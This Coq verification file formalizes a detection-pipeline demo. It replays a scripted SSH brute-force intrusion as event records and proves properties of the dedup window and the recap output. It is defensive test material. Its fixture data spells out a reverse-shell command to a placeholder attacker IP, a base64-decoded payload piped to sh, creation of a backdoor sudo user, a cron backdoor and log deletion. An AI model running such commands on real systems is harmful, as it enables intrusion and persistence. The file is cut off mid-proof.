(* ===== verification/Demo.v ===== *)
(** * The demonstration ([demo.py])

    The scripted intrusion as raw records, the collector that replays it, the
    runtime the demonstration builds for it, and the recap.  What the replay
    shows: the script's records are all accepted, its one repeated transition
    is the one event the dedup window drops, and the recap's numbers are those
    of the service that ran.  The database is a fresh one, the time a replay
    takes is bounded by its deadline. *)

From S2P Require Import Prelude ODict PyText PyRe Events Dedup Queue Pipeline Rules Evaluator Engine Alerting.
From S2P Require Import Base Storage Persist NetParse Normalizer Sinks Settings Metrics Runtime System Service Observe Library.
Local Open Scope string_scope.
Local Open Scope Z_scope.

(** ** The script *)

Definition HOST : string := "web01".
Definition ATTACKER : string := "203.0.113.7".
Definition DEMO_TIMEOUT : Z := 30 * SECOND.
Definition PAYLOAD : string := "/tmp/.x/kworker".

Record Scenario := mkScenario { records : list RawEvent; benign : list RawEvent }.

(** [f"{i:02d}"] of a small number *)
Definition two_digits (i : Z) : string := (if i <? 10 then "0" else "") +:+ str_of_int i.

(** [Path(p).name] *)
Definition path_name (p : Path) : string := default "" (last (path_parts p)).

(** [at[i]] *)
Definition at_second (start : datetime) (i : Z) : datetime :=
  mkDatetime (dt_instant start + i * SECOND) (dt_offset start).

Section script.
Context (at_ : Z → datetime).

Definition auth (i : Z) (action outcome : string) : RawEvent :=
  let verb := if String.eqb outcome "failure" then "Failed" else "Accepted" in
  RawAuth (mkRawAuth (at_ i) HOST ("Jun 16 12:00:" +:+ two_digits i) (str_of_int (4100 + i))
    action outcome 4 "root" ATTACKER (50000 + i) 0
    (verb +:+ " password for root from " +:+ ATTACKER +:+ " port " +:+ str_of_int (50000 + i) +:+ " ssh2")).

Definition proc (i : Z) (cmdline exe : string) : RawEvent :=
  let pid := 5000 + i in
  RawProcess (mkRawProcess (at_ i) HOST "process_started" 3 pid 4999 (900000 + pid)
    (path_name (path_of exe)) (Some cmdline) (Some exe)).

Definition file (i : Z) (action path mode : string) : RawEvent :=
  RawFile (mkRawFile (at_ i) HOST action 4 path 512 mode None (path +:+ "@" +:+ str_of_int i)).

Definition net (i : Z) (action : string) (remote : string * Z) (state : string) : RawEvent :=
  RawNetwork (mkRawNetwork (at_ i) HOST action 2 "tcp" "10.0.0.5" (41000 + i) remote.1 remote.2
    state 0 (70000 + i)).

Definition reverse_shell : string := "bash -c 'bash -i >& /dev/tcp/" +:+ ATTACKER +:+ "/4444 0>&1'".
Definition benign_worker : RawEvent := proc 0 "/usr/bin/python3 /opt/app/worker.py" "/usr/bin/python3".
Definition benign_https : RawEvent := net 1 "network_connection_opened" ("93.184.216.34", 443) "ESTABLISHED".
Definition benign_config : RawEvent := file 17 "file_modified" "/etc/app/settings.conf" "0644".
Definition cron_drop : RawEvent := file 14 "file_created" "/etc/cron.d/backdoor" "0644".

Definition timeline : Scenario :=
  mkScenario
    ([benign_worker; benign_https]
     ++ map (λ i, auth i "ssh_login_failed" "failure") [2; 3; 4; 5; 6; 7]
     ++ [auth 8 "ssh_login_succeeded" "success";
         proc 9 reverse_shell "/usr/bin/bash";
         net 10 "network_connection_opened" (ATTACKER, 4444) "ESTABLISHED";
         proc 11 "sh -c 'echo ZWNobyBwd25lZA== | base64 -d | sh'" "/usr/bin/dash";
         proc 12 PAYLOAD PAYLOAD;
         proc 13 "useradd -m -s /bin/bash -G sudo svc-backup" "/usr/sbin/useradd";
         cron_drop;
         cron_drop;
         file 16 "file_attributes_modified" "/usr/local/bin/helper" "4755";
         benign_config;
         file 18 "file_deleted" "/var/log/auth.log" "0640"])%list
    [benign_worker; benign_https; benign_config].
End script.

Definition scenario (start : datetime) : Scenario := timeline (at_second start).
Local Close Scope string_scope.

(** ** The replay *)

Section replay.
(** [_local_hostname()] *)
Context (local_hostname : string).

(** [ScenarioCollector.run]: the events it puts into the queue, in order; then
    it idles. *)
Fixpoint replay (raws : list RawEvent) (n : Normalizer) : list Event * Normalizer :=
  match raws with
  | [] => ([], n)
  | raw :: raws =>
      let '(event, n) := normalize local_hostname raw n in
      let '(events, n) := replay raws n in
      (option_list event ++ events, n)
  end.

(** [_event_ids] *)
Definition event_ids (raws : list RawEvent) : gset string :=
  list_to_set (dedup_key <$> (replay raws new_normalizer).1).

(** An event does not depend on the counters. *)
Definition event_of (raw : RawEvent) : option Event :=
  match map_raw local_hostname raw with Ok e => Some e | Raise _ => None end.

Lemma replay_events raws n :
  (replay raws n).1 = omap event_of raws ∧
  (replay raws n).2 = mkNormalizer (Normalizer.dead_letters n + (len raws - len (omap event_of raws)))
                        (normalized n + len (omap event_of raws)).
Proof.
  revert n. induction raws as [|raw raws IH]; intros [d k].
  { split; [done|]. change (mkNormalizer d k = mkNormalizer (d + 0) (k + 0)). f_equal; lia. }
  cbn [replay omap list_omap]. unfold normalize. assert (He : event_of raw = match map_raw local_hostname raw with
    Ok e => Some e | Raise _ => None end) by done. rewrite He. clear He.
  destruct (map_raw local_hostname raw) as [e|x]; cbn [Normalizer.dead_letters normalized].
  - destruct (IH (mkNormalizer d (k + 1))) as [IH1 IH2]. destruct (replay raws _) as [es m]. cbn [fst snd] in *.
    rewrite IH1, IH2. split; [done|]. cbn [Normalizer.dead_letters normalized]. rewrite !len_cons. f_equal; lia.
  - destruct (IH (mkNormalizer (d + 1) k)) as [IH1 IH2]. destruct (replay raws _) as [es m]. cbn [fst snd] in *.
    rewrite IH1, IH2. split; [done|]. cbn [Normalizer.dead_letters normalized]. rewrite len_cons. f_equal; lia.
Qed.

Lemma omap_full {A B} (f : A → option B) l : length (omap f l) = length l → f <$> l = Some <$> omap f l.
Proof.
  assert (Hle : ∀ l, (length (omap f l) ≤ length l)%nat) by (clear; induction l as [|x l IH]; cbn; [lia|]; destruct (f x); cbn; lia).
  induction l as [|x l IH]; [done|]. cbn. pose proof (Hle l). destruct (f x) as [y|]; cbn; [|lia].
  intros [= Hl]. f_equal. by apply IH.
Qed.
End replay.

(** ** The runtime of the demonstration *)

(** [Settings.model_construct]: neither the environment nor a file is read. *)
Definition demo_settings : Settings :=
  let d := default_settings DEVELOPMENT in
  mkSettings DEVELOPMENT (log_level d) (log_format d) 10000 BLOCK (dedup_window_seconds d) (dedup_max_entries d)
    (alert_min_severity d) (alert_dedup_window_seconds d) (alert_throttle_max d) (alert_throttle_window_seconds d)
    (webhook_url d) (webhook_hmac_secret d) (webhook_allow_private d)
    (smtp_host d) (smtp_port d) (smtp_username d) (smtp_password d) (email_from d) (email_recipients d) (smtp_starttls d)
    (database_url d) (persist_batch_size d) (SECOND / 20) (persist_max_buffered d) (retention_days d)
    (persist_write_timeout_seconds d) (api_key d) (api_cors_origins d) (api_rate_limit d) (api_rate_window_seconds d)
    (api_max_page_size d) (collectors d) (host_root d) (host_name d) (auth_log_path d) (auth_log_backfill d)
    "/etc,/var/spool/cron,/var/log" (rules_dir d).

(** [ScenarioCollector.name] *)
Definition REPLAY : string := "demo-replay".

Definition demo_runtime (rules : list Rule) : result Runtime :=
  build_runtime demo_settings rules [GivenCollector REPLAY] [ConsoleSink false].

(** [runtime.snapshot()]: the collector keeps no counters and marks no source. *)
Definition demo_snapshot (running : bool) (rt : Runtime) : RuntimeSnapshot :=
  snapshot [mkWatched REPLAY None true] (0, 0) running rt.

(** The condition of the loop that waits for the replay *)
Definition keep_replaying (unique : Z) (running : bool) (now deadline : Z) (rt : Runtime) : bool :=
  (events_ingested (rt_metrics rt) <? unique) && running
    && bool_decide (collector_restarts (demo_snapshot running rt) = []) && (now <? deadline).

Definition NEWLINE : string := String NL "".

Record DemoResult := mkDemoResult {
  replayed : Z;
  persisted_events : Z;
  alerts : list Alert;
  duplicates_dropped : Z;
  benign_events : Z;
  alerts_on_benign : Z;
}.

Section result.
Context {TE TA : Type} `{SqlTable EventValues TE, SqlTable AlertValues TA}.
Context (local_hostname : string).

(** What [run_demo] returns, the runtime having stopped; the sink collected
    [delivered]. *)
Definition demo_result (script : Scenario) (delivered : list Alert) (x : Service (TE := TE) (TA := TA)) : DemoResult :=
  let benign_ids := event_ids local_hostname (benign script) in
  mkDemoResult (len (records script)) (count_rows (event_rows (sv_store x))) delivered
    (default 0 (od_get (dropped (demo_snapshot false (sv_runtime x))) "duplicate"%string))
    (Z.of_nat (size benign_ids)) (len (filter (λ a, al_event_id a ∈ benign_ids) delivered)).
End result.

(** [summarize] *)
Definition summarize (r : DemoResult) : string :=
  let per_rule : gset string := list_to_set (al_rule_id <$> alerts r) in
  let techniques : gset string := list_to_set (alerts r ≫= al_attack) in
  (str_join NEWLINE [
    "";
    "Replayed " +:+ str_of_int (replayed r) +:+ " records -> " +:+ str_of_int (persisted_events r) +:+ " events stored ("
      +:+ str_of_int (duplicates_dropped r) +:+ " duplicate dropped by the dedup window).";
    str_of_int (len (alerts r)) +:+ " alerts from " +:+ str_of_int (Z.of_nat (size per_rule)) +:+ " rules; "
      +:+ str_of_int (alerts_on_benign r) +:+ " alerts on the " +:+ str_of_int (benign_events r) +:+ " benign events.";
    "ATT&CK techniques detected: " +:+ str_join ", " (merge_sort string_le (elements techniques))])%string.

Example summary :
  summarize (mkDemoResult 19 18 [example_alert; example_alert] 1 3 0)
  = str_join NEWLINE ["";
      "Replayed 19 records -> 18 events stored (1 duplicate dropped by the dedup window).";
      "2 alerts from 1 rules; 0 alerts on the 3 benign events.";
      "ATT&CK techniques detected: " +:+ str_join ", " (al_attack example_alert)]%string.
Proof. vm_compute. reflexivity. Qed.

(** ** What the script is *)

Definition story (local_hostname : string) (start : datetime) : list Event :=
  (replay local_hostname (records (scenario start)) new_normalizer).1.

(** Which event is a repetition *)
Definition REPEATED : nat := 14.

(** The story with the repeated transition told once *)
Definition told_once (local_hostname : string) (start : datetime) : list Event :=
  delete REPEATED (story local_hostname start).

(** The events of the script with their ids, whatever the host and the hour *)
Definition told (instant : Z → Z) : list Event :=
  Eval vm_compute in omap (event_of "localhost") (records (timeline (λ i, mkDatetime (instant i) (Some 0)))).

Lemma told_ids local_hostname instant :
  omap (event_of local_hostname) (records (timeline (λ i, mkDatetime (instant i) (Some 0)))) = told instant.
Proof. vm_compute. reflexivity. Qed.

Definition story_ids : list string := Eval vm_compute in dedup_key <$> told id.

Lemma story_is_told local_hostname start :
  dt_offset start = Some 0 → story local_hostname start = told (λ i, dt_instant start + i * SECOND).
Proof.
  destruct start as [t o]. cbn [dt_offset dt_instant]. intros ->. unfold story. rewrite (proj1 (replay_events _ _ _)).
  apply (told_ids local_hostname (λ i, t + i * SECOND)).
Qed.

Lemma story_length local_hostname start : dt_offset start = Some 0 → length (story local_hostname start) = 19%nat.
Proof. intros Ho. by rewrite story_is_told. Qed.

Lemma record_told local_hostname start i raw :
  dt_offset start = Some 0 → records (scenario start) !! i = Some raw →
  event_of local_hostname raw = told (λ i, dt_instant start + i * SECOND) !! i.
Proof.
  intros Ho Hr. pose proof (story_is_told local_hostname start Ho) as Ht. unfold story in Ht.
  rewrite (proj1 (replay_events _ _ _)) in Ht. pose proof (omap_full (event_of local_hostname) (records (scenario start))) as Hf.
  rewrite Ht in Hf. specialize (Hf eq_refl). apply (f_equal (.!! i)) in Hf. rewrite !list_lookup_fmap, Hr in Hf.
  destruct (told _ !! i); [by injection Hf|done].
Qed.

Lemma story_keys local_hostname start :
  dt_offset start = Some 0 →
  dedup_key <$> story local_hostname start = story_ids ∧
  (replay local_hostname (records (scenario start)) new_normalizer).2 = mkNormalizer 0 19 ∧
  dedup_key <$> (replay local_hostname (benign (scenario start)) new_normalizer).1 = omap (story_ids !!.) [0; 1; 17]%nat.
Proof.
  intros Ho. split; [by rewrite story_is_told|]. destruct (replay_events local_hostname (records (scenario start)) new_normalizer) as [H1 ->].
  rewrite <-H1. fold (story local_hostname start). rewrite (story_is_told _ _ Ho). split; [done|].
  rewrite (proj1 (replay_events _ _ _)). cbn [benign scenario timeline omap list_omap].
  by rewrite (record_told local_hostname start 0 _ Ho eq_refl), (record_told local_hostname start 1 _ Ho eq_refl),
    (record_told local_hostname start 17 _ Ho eq_refl).
Qed.

(** ** What a run takes in, and when it looks keys up *)

Lemma pl_step_moves {E W} `{DuplicateFilter W} (key : E → string) (p p' : Pipeline.system E W) l :
  pl_step key p l = Ok p' →
  let q := pl_queue (sys_pl p) in
  _maxsize (pl_queue (sys_pl p')) = _maxsize q ∧
  match l with
  | Put e => queue_wf q → qsize q < _maxsize q → sys_accepted p' = sys_accepted p ++ [e]
  | _ => sys_accepted p' = sys_accepted p
  end.
Proof.
  intros Hs q. subst q. destruct l as [e|now|ok]; cbn [pl_step] in Hs.
  - destruct (put e (pl_queue (sys_pl p))) as [q'|q'|] eqn:Hput; injection Hs as <-; cbn; (split; [|intros Hwf Hlt]); try done.
    + unfold put, accept in Hput. by repeat case_match; simplify_eq.
    + unfold put in Hput. by repeat case_match; simplify_eq.
    + pose proof (put_inv e _ Hwf) as Hp. rewrite Hput in Hp. inversion Hp; lia.
    + pose proof (put_inv e _ Hwf) as Hp. rewrite Hput in Hp. inversion Hp; lia.
  - destruct (sys_handling p); [by injection Hs as <-|]. unfold consume_take in Hs.
    destruct (get _) as [[e q1]|] eqn:Hg; [|by injection Hs as <-].
    unfold get in Hg. destruct (get_nowait _) as [[e0 q0]|] eqn:Hgn; [|done]. injection Hg as -> <-.
    destruct (df_seen _ _ _) as [[[] w]|]; cbn [mbind result_bind] in Hs; [|by injection Hs as <-|].
    + apply result_bind_ok in Hs as (r & Hr & Hs). apply result_bind_ok in Hr as (q1 & Htd & [= <-]).
      unfold task_done in Htd. apply result_bind_ok in Htd as (q2 & _ & [= <-]). by injection Hs as <-.
    + by apply result_bind_ok in Hs as (r & (? & _ & Hr)%result_bind_ok & _).
  - destruct (sys_handling p); [|by injection Hs as <-].
    apply result_bind_ok in Hs as (p1 & Hr & [= <-]). unfold consume_return in Hr. apply result_bind_ok in Hr as (q1 & Htd & [= <-]).
    unfold task_done in Htd. apply result_bind_ok in Htd as (q2 & _ & [= <-]). by destruct ok.
Qed.

Section history.
Context `{E : RegexEngine} {TE TA : Type} `{SqlTable EventValues TE, SqlTable AlertValues TA}.
Context (iso : Z → string) (prefix : string) (s : Settings).
Implicit Types x : Service (TE := TE) (TA := TA).
Abbreviation queue_of x := (pl_queue (rt_pipeline (sv_runtime x))).

(** The queue being large enough, the offered events are accepted. *)
Definition takes_in x (ls : list label) x' : Prop :=
  _maxsize (queue_of x') = _maxsize (queue_of x) ∧
  (len (sv_accepted x) + len (offered ls) ≤ _maxsize (queue_of x) → sv_accepted x' = sv_accepted x ++ offered ls).

(** A key is looked up when an event is taken. *)
Definition looks_up x (ls : list label) x' : Prop :=
  ∀ c, c ∈ sv_lookups x' → c ∈ sv_lookups x ∨ c.1 ∈ takes ls.

Lemma background_pipeline b x x' : background_step prefix s b x = Ok x' → pipeline_of x' = pipeline_of x.
Proof.
  destruct b as [|now o|[now i|i|i ok]]; cbn [background_step aside_step]; try (by intros [= <-]); unfold lane;
    (destruct (_ !! i); [|by intros [= <-]]); by intros (l' & _ & [= <-])%result_bind_ok.
Qed.

Lemma consumed_pipeline e tick x rt :
  consume_event iso prefix s tick e (sv_runtime x) = Ok rt → pipeline_of (with_runtime rt x) = pipeline_of x.
Proof.
  unfold consume_event. intros ([ds g] & _ & Hr)%result_bind_ok. by apply result_bind_ok in Hr as ([as_ m] & _ & [= <-]).
Qed.

(** A step of the service is one of the pipeline, or the pipeline rests. *)
Lemma step_pipeline x l x' :
  service_step iso prefix s x l = Ok x' →
  (∃ pl, pl_step dedup_key (pipeline_of x) pl = Ok (pipeline_of x') ∧
     match l with Queued e => pl = Put e | Taken now => pl = Take now | Analysed _ => pl = Return true | Background _ => False end) ∨
  pipeline_of x' = pipeline_of x ∧ offered [l] = [].
Proof.
  destruct l as [e|now|tick|b]; cbn [service_step].
  - intros (p & Hs & [= <-])%result_bind_ok. left. exists (Put e). by rewrite pipeline_set.
  - intros (p & Hs & [= <-])%result_bind_ok. left. exists (Take now). by rewrite pipeline_set.
  - destruct (sv_handling x) as [e|]; [|intros [= <-]; by right].
    intros (rt & Hc & Hs)%result_bind_ok. apply result_bind_ok in Hs as (p & Hs & [= <-]).
    rewrite (consumed_pipeline _ _ _ _ Hc) in Hs. left. exists (Return true). by rewrite pipeline_set.
  - intros Hb. right. split; [|done]. by eapply background_pipeline.
Qed.

Lemma step_looks_up x l x' : service_step iso prefix s x l = Ok x' → looks_up x [l] x'.
Proof.
  intros [(pl & Hs & Hl)|[Hp _]]%step_pipeline c Hc.
  - apply pl_step_origin in Hs as [Hlook _]. destruct (Hlook c Hc) as [?| ->]; [by left|]. right.
    destruct l; try done. injection Hl as <-. by left.
  - left. by rewrite (f_equal sys_lookups Hp : sv_lookups x' = sv_lookups x) in Hc.
Qed.

Lemma looks_up_nil x x' : pipeline_of x' = pipeline_of x → looks_up x [] x'.
Proof. intros Hp c Hc. left. by rewrite (f_equal sys_lookups Hp : sv_lookups x' = sv_lookups x) in Hc. Qed.

Lemma looks_up_refl x : looks_up x [] x.
Proof. by apply looks_up_nil. Qed.

Lemma looks_up_app x ls x1 ls' x' : looks_up x ls x1 → looks_up x1 ls' x' → looks_up x (ls ++ ls') x'.
Proof.
  intros Hl Hl' c [Hc|Hc]%Hl'; unfold takes in *; rewrite omap_app, elem_of_app; [|by auto]. apply Hl in Hc. tauto.
Qed.

Lemma run_looks_up ls x x' : service_run iso prefix s ls x = Ok x' → looks_up x ls x'.
Proof.
  revert x. induction ls as [|l ls IH]; intros x; cbn [service_run]; [intros [= <-]; apply looks_up_refl|].
  intros (x1 & Hs & Hr)%result_bind_ok. apply (looks_up_app _ [l] x1); [by apply step_looks_up|by apply IH].
Qed.

Lemma step_takes_in rules last sl nl evs als x l x' :
  service_ok iso prefix s rules last sl nl evs als x → service_step iso prefix s x l = Ok x' → takes_in x [l] x'.
Proof.
  intros Hok Hs. pose proof (ok_pipeline _ _ _ _ _ _ _ _ _ _ Hok) as Hp.
  apply step_pipeline in Hs as [(pl & Hs & Hl)|[Heq Hoff]].
  - destruct (pl_step_moves _ _ _ _ Hs) as [Hm Ha]. split; [done|]. intros Hle.
    destruct l as [e|now|tick|b]; try done; subst pl; cbn [offered omap list_omap] in *; [|by rewrite app_nil_r..].
    apply Ha; [exact (so_queue _ _ _ _ _ Hp)|]. pose proof (so_fifo _ _ _ _ _ Hp) as Hf.
    apply (f_equal len) in Hf. rewrite len_app in Hf. pose proof (len_nonneg (taken (pipeline_of x))).
    unfold qsize, q_size. cbn in *. rewrite len_cons, len_nil in Hle. lia.
  - split; [by injection Heq as -> _ _ _ _ _|]. intros _. rewrite Hoff, app_nil_r. exact (f_equal sys_accepted Heq).
Qed.

Lemma takes_in_app x ls x1 ls' x' : takes_in x ls x1 → takes_in x1 ls' x' → takes_in x (ls ++ ls') x'.
Proof.
  intros [Hs Ha] [Hs' Ha']. split; [congruence|]. unfold offered in *. rewrite omap_app, len_app. intros Hle.
  pose proof (len_nonneg (omap (λ l, match l with Queued e => Some e | _ => None end) ls')) as Hn.
  rewrite Ha in Ha' by lia. rewrite Ha' by (rewrite Hs, len_app; lia). by rewrite app_assoc.
Qed.

Lemma run_takes_in rules last sl nl evs als x ls rest x' :
  valid_fields s = true → Forall (λ r, validate_rule r = Ok r) rules →
  service_ok iso prefix s rules last sl nl evs als x → ahead last sl nl (ls ++ rest) →
  service_run iso prefix s ls x = Ok x' → takes_in x ls x'.
Proof.
  intros Hf Hr. revert last sl nl evs als x. induction ls as [|l ls IH]; intros last sl nl evs als x Hok Ha; cbn [service_run].
  { intros [= <-]. split; [done|]. intros _. by rewrite app_nil_r. }
  destruct (step_ok iso prefix s rules Hf Hr _ _ _ _ _ _ l (ls ++ rest) Hok Ha)
    as (x1 & last1 & sl1 & nl1 & evs1 & als1 & Hs & Hok1 & Ha1).
  rewrite Hs. intros Hrun. apply (takes_in_app _ [l] x1); [by eapply step_takes_in|by eapply IH].
Qed.

(** Shutdown looks keys up in the turns of the consumer only. *)
Lemma join_looks_up fuel turns x x' :
  join iso prefix s fuel turns x = Ok x' → ∃ n, looks_up x (upcoming n turns) x'.
Proof.
  revert turns x. induction fuel as [|fuel IH]; intros turns x; cbn [join]; [intros [= <-]; exists 0%nat; apply looks_up_refl|].
  destruct (drained _); [intros [= <-]; exists 0%nat; apply looks_up_refl|].
  intros (x1 & Hr & (n & Hn)%IH)%result_bind_ok. exists (S n). rewrite upcoming_S.
  eapply looks_up_app; [by eapply run_looks_up|done].
Qed.

Lemma takes_answer a : takes (answer_labels a) = [].
Proof. unfold answer_labels, takes. rewrite omap_app. cbn. rewrite app_nil_r. induction (before_answer a); [done|]. simpl. done. Qed.

Lemma looks_up_quietly x ls x' : takes ls = [] → looks_up x ls x' → looks_up x [] x'.
Proof. intros Ht Hl c [Hc|Hc]%Hl; [by left|]. rewrite Ht in Hc. by apply elem_of_nil in Hc. Qed.

Lemma await_looks_up fuel answers x x' : finish_flush iso prefix s fuel answers x = Ok x' → looks_up x [] x'.
Proof.
  revert answers x. induction fuel as [|fuel IH]; intros answers x; cbn [finish_flush]; [intros [= <-]; apply looks_up_refl|].
  assert (Hgo : (x1 ← service_run iso prefix s (answer_labels (answers 0%nat)) x; finish_flush iso prefix s fuel (answers ∘ S) x1)
    = Ok x' → looks_up x [] x').
  { intros (x1 & Hr & Hx)%result_bind_ok. apply (looks_up_app _ [] x1 []); [|by eapply IH].
    eapply looks_up_quietly; [apply takes_answer|by eapply run_looks_up]. }
  destruct (sv_flushing x); [intros [= <-]; apply looks_up_refl|exact Hgo..].
Qed.

Lemma stop_looks_up turns again answers answers' answers'' deliveries x x' :
  stop iso prefix s turns again answers answers' answers'' deliveries x = Ok x' → ∃ n, looks_up x (upcoming n turns) x'.
Proof.
  unfold stop. set (x0 := with_runtime _ x). intros (x1 & (n & Hj)%join_looks_up & H1)%result_bind_ok. exists n.
  apply result_bind_ok in H1 as (x2 & Hf2%await_looks_up & H2). apply result_bind_ok in H2 as (x3 & Hf3 & H3).
  apply result_bind_ok in H3 as (x4 & Hf4%await_looks_up & H4). apply result_bind_ok in H4 as (x5 & Hf5 & H5).
  apply result_bind_ok in H5 as (lanes & _ & [= <-]).
  assert (Hq3 : looks_up x2 [] x3) by (destruct again; [by apply await_looks_up in Hf3|injection Hf3 as <-; apply looks_up_refl]).
  apply run_looks_up in Hf5. set (x4' := if _ : bool then _ else x4) in Hf5.
  assert (Hq4 : looks_up x4 [] x4') by (unfold x4'; by destruct (_ && _); apply looks_up_nil).
  assert (Hq5 : looks_up x4' [] x5).
  { eapply looks_up_quietly; [|exact Hf5]. clear. unfold takes. by induction deliveries. }
  rewrite <-(app_nil_r (upcoming n turns)). apply (looks_up_app _ _ x1); [exact Hj|].
  apply (looks_up_app _ [] x2 [] _ Hf2). apply (looks_up_app _ [] x3 [] _ Hq3). apply (looks_up_app _ [] x4 [] _ Hf4).
  apply (looks_up_app _ [] x4' [] _ Hq4). exact Hq5.
Qed.
End history.

(** ** What a replay leaves *)

(** The repeated transition is told twice in a row. *)
Lemma story_repeats local_hostname start :
  dt_offset start = Some 0 →
  ∃ c, story local_hostname start !! REPEATED = Some c ∧ story local_hostname start !! S REPEATED = Some c.
Proof. intros Ho. rewrite story_is_told by done. by eexists. Qed.

Lemma story_told local_hostname start :
  dt_offset start = Some 0 →
  let l := story local_hostname start in
  ∃ c, l = take REPEATED l ++ c :: c :: drop (S (S REPEATED)) l ∧
    told_once local_hostname start = take REPEATED l ++ c :: drop (S (S REPEATED)) l.
Proof.
  intros Ho l. destruct (story_repeats local_hostname start Ho) as (c & H1 & H2). fold l in H1, H2. exists c. split.
  - rewrite <-(drop_S l c (S REPEATED) H2), <-(drop_S l c REPEATED H1).
    by rewrite take_drop.
  - unfold told_once. fold l. rewrite delete_take_drop. f_equal. by apply drop_S.
Qed.

Lemma sublist_whole {A} (l k : list A) : l `sublist_of` k → (length k ≤ length l)%nat → l = k.
Proof.
  induction 1 as [|x l k _ IH|x l k Hs _]; cbn; intros Hlen; [done|by rewrite IH by lia|].
  apply sublist_length in Hs. lia.
Qed.

Lemma once_told {A} (pre post l : list A) c :
  l `sublist_of` pre ++ c :: c :: post → NoDup l → length l = S (length pre + length post) → l = pre ++ c :: post.
Proof.
  intros Hl Hnd Hlen. apply sublist_whole; [|rewrite Hlen, length_app; cbn; lia].
  apply sublist_app_r in Hl as (l1 & l2 & -> & H1 & H2). apply sublist_app; [done|].
  apply sublist_cons_r in H2 as [H2|(l3 & -> & H2)]; [done|]. apply sublist_skip.
  apply sublist_cons_r in H2 as [H2|(l4 & -> & H2)]; [done|]. apply NoDup_app in Hnd as (_ & _ & Hnd).
  apply NoDup_cons in Hnd as [Hnd _]. exfalso. apply Hnd. by left.
Qed.

Lemma ids_once : NoDup (delete REPEATED story_ids) ∧ NoDup (delete REPEATED (take 18 story_ids)).
Proof. split; apply (bool_decide_unpack _); vm_compute; reflexivity. Qed.

Lemma ids_same k : k ∈ story_ids ↔ k ∈ delete REPEATED story_ids.
Proof.
  assert (H : ∀ l1 l2 : list string, forallb (λ k, bool_decide (k ∈ l2)) l1 = true → ∀ k, k ∈ l1 → k ∈ l2).
  { intros l1 l2 Hall k' Hk. rewrite forallb_forall in Hall. apply (bool_decide_eq_true_1 _), Hall. by apply list_elem_of_In. }
  split; apply H; vm_compute; reflexivity.
Qed.

Lemma ids_before n k : (n ≤ 18)%nat → k ∈ take n story_ids → k ∈ delete REPEATED (take 18 story_ids).
Proof.
  intros Hn Hk. assert (Hk' : k ∈ take 18 story_ids).
  { rewrite <-(take_drop n (take 18 story_ids)), take_take, Nat.min_l by done. apply elem_of_app. by left. }
  clear Hk. revert k Hk'. apply (proj1 (Forall_forall (.∈ delete REPEATED (take 18 story_ids)) _)).
  apply (bool_decide_unpack _). vm_compute. reflexivity.
Qed.

(** Within one window the consumer is given every key it takes once. *)
Lemma dispatched_once cap ttl last lo (p : Pipeline.system Event DedupWindow) :
  sys_ok dedup_key cap ttl last p → Forall (λ c, lo ≤ c.1 < lo + ttl) (sys_lookups p) → (length (taken p) ≤ cap)%nat →
  NoDup (dedup_key <$> sys_dispatched p) ∧ ∀ k, k ∈ dedup_key <$> sys_dispatched p ↔ k ∈ dedup_key <$> taken p.
Proof.
  intros Hok Hwin Hcap. destruct (spec_history_new cap ttl lo (sys_lookups p) (dedup_key <$> taken p)) as (Hnd & Hin & _).
  - apply Forall_forall. intros c Hc. split; [by apply (proj1 (Forall_forall _ _) Hwin)|].
    rewrite <-(so_lookups _ _ _ _ _ Hok). apply list_elem_of_fmap. eauto.
  - by rewrite length_fmap.
  - pose proof (so_history _ _ _ _ _ Hok) as Hh. unfold history in Hh. rewrite Hh, (so_lookups _ _ _ _ _ Hok) in *. by split.
Qed.

Lemma len_stored_ids {V} (rs : list (row V)) : len (stored_ids rs) ≤ len rs.
Proof. unfold len, stored_ids. induction rs as [|r rs IH]; cbn; [lia|]. destruct (row_write_id r); cbn [length]; lia. Qed.

Section told.
Context `{E : RegexEngine} {TE TA : Type} `{SqlTable EventValues TE, SqlTable AlertValues TA}.
Context (iso : Z → string) (prefix : string) (rules : list Rule).
Implicit Types x : Service (TE := TE) (TA := TA).
Abbreviation s := demo_settings.
Abbreviation window := (dedup_window_seconds demo_settings).

Lemma sublist_analysed (handled : list (Event * fate)) : analysed handled `sublist_of` handled.*1.
Proof.
  unfold analysed. induction handled as [|[e f] l IH]; [done|]. rewrite filter_cons.
  case_decide; rewrite !fmap_cons; by constructor.
Qed.

(** Within one window every id taken is analysed or being analysed, once. *)
Lemma analysed_once last sl nl evs als x lo :
  service_ok iso prefix s rules last sl nl evs als x → Forall (λ c, lo ≤ c.1 < lo + window) (sv_lookups x) →
  len (sv_accepted x) ≤ 19 →
  let keys := dedup_key <$> (analysed (sv_handled x) ++ option_list (sv_handling x)) in
  NoDup keys ∧ ∀ k, k ∈ keys ↔ k ∈ dedup_key <$> (sv_handled x).*1 ++ option_list (sv_handling x).
Proof.
  intros Hok Hwin Hlen keys. subst keys. rewrite <-(ok_dispatched _ _ _ _ _ _ _ _ _ _ Hok).
  pose proof (ok_pipeline _ _ _ _ _ _ _ _ _ _ Hok) as Hp. apply (dispatched_once _ _ _ _ _ Hp Hwin).
  pose proof (f_equal length (so_fifo _ _ _ _ _ Hp)) as Hf. rewrite length_app in Hf. cbn [pipeline_of sys_accepted] in Hf.
  assert (19 ≤ Z.to_nat (dedup_max_entries s))%nat by (apply Nat.leb_le; vm_compute; reflexivity). unfold len in Hlen. lia.
Qed.

(** As many different ids as the script has are analysed only at its end. *)
Lemma not_before_the_end last sl nl evs als x lo local_hostname start n :
  dt_offset start = Some 0 → service_ok iso prefix s rules last sl nl evs als x →
  Forall (λ c, lo ≤ c.1 < lo + window) (sv_lookups x) → sv_accepted x = take n (story local_hostname start) →
  18 ≤ events_ingested (rt_metrics (sv_runtime x)) → (19 ≤ n)%nat.
Proof.
  intros Ho Hok Hwin Hacc. rewrite (ok_ingested _ _ _ _ _ _ _ _ _ _ Hok). intros Hing.
  destruct (decide (19 ≤ n)%nat) as [|Hn]; [done|exfalso]. destruct (story_keys local_hostname start Ho) as [Hkeys _].
  destruct (analysed_once _ _ _ _ _ _ _ Hok Hwin) as [Hnd Hin].
  { rewrite Hacc. unfold len. rewrite length_take. lia. }
  rewrite fmap_app in Hnd. apply NoDup_app in Hnd as [Hnd _].
  assert (Hsub : dedup_key <$> analysed (sv_handled x) ⊆+ delete REPEATED (take 18 story_ids)).
  { apply NoDup_submseteq; [done|]. intros k Hk. apply (ids_before n); [lia|]. rewrite <-Hkeys, <-fmap_take, <-Hacc.
    pose proof (so_fifo _ _ _ _ _ (ok_pipeline _ _ _ _ _ _ _ _ _ _ Hok)) as Hf. cbn in Hf. rewrite Hf, fmap_app, elem_of_app. left.
